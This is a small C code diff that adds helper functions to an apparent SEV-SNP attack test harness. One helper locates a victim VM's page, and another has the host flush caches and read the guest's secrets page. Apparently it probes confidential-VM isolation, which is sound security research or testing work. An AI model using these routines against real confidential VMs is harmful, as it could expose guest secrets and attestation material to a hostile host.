@@ -34,6 +34,25 @@ atk_start_with_report(struct snp_atk_ctx *c, struct atk_vm *vm)
     return atk_vm_start(c, vm, &l, msg, n);
 }
 
+/* atk_start_with_report(), then the SPA behind the victim's page @gpa (SNP_E_STATE when none). */
+snp_err
+atk_start_at(struct snp_atk_ctx *c, struct atk_vm *vm, uint64_t gpa, uint64_t *spa)
+{
+    SNP_TRY(atk_start_with_report(c, vm));
+    SNP_ENSURE(atk_gpa_spa(vm, gpa, spa), SNP_E_STATE);
+    return SNP_OK;
+}
+
+/* WBINVD, then the host's read of @vm's secrets page (*spa its SPA) into @buf, PAGE bytes. */
+snp_err
+atk_secrets_read(struct snp_atk_ctx *c, const struct atk_vm *vm, uint64_t *spa, uint8_t *buf)
+{
+    SNP_ENSURE(atk_gpa_spa(vm, SNP_VMM_SECRETS_GPA, spa), SNP_E_STATE);
+    SNP_ENSURE(snp_host_wbinvd(c->m) == SNP_OK, SNP_E_STATE);
+    SNP_ENSURE(snp_host_read(c->m, *spa, buf, PAGE) == SNP_HW_OK, SNP_E_STATE);
+    return SNP_OK;
+}
+
 /* Resume with SHUTDOWN queued and see whether the guest went on to answer the pending REPORT
  * (with any status: a plain VM has no attestation, its answer is an error, but it ran on). */
 snp_err
